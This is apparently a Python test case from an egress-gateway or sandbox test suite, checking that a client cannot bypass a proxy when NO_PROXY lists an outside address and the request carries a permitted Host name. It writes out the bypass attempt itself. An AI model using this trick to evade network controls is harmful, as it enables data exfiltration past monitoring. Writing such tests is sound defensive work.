"""NO_PROXY lists the attacker's address, so the client goes there without a proxy.

Clients read that list in many ways (suffixes, stars, networks), and each is told to leave the
proxy out for this one. The address is dialled with the permitted name in the request.

Not covered: what a client does with the list for permitted names, where both ways are judged alike.
"""

import os
import urllib.request

ATTACK = {
    "title": "Left out of the proxy by NO_PROXY",
    "group": "roads",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CVE-2025-66479", "CWE-15", "CWE-441"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}],
    "stopped": [
        {
            "reason": ["literal-address"],
            "entry": ["transparent"],
            "where": {"address": "93.184.216.66"},
        }
    ],
}


def attempt(kit):
    os.environ.update(http_proxy="http://198.18.0.1:3128", no_proxy="93.184.216.66,*.test,0.0.0.0/0")
    request = urllib.request.Request("http://93.184.216.66/left-out", headers={"Host": "allowed.test"})
    kit.do("past the proxy", lambda: urllib.request.urlopen(request, timeout=4).status)
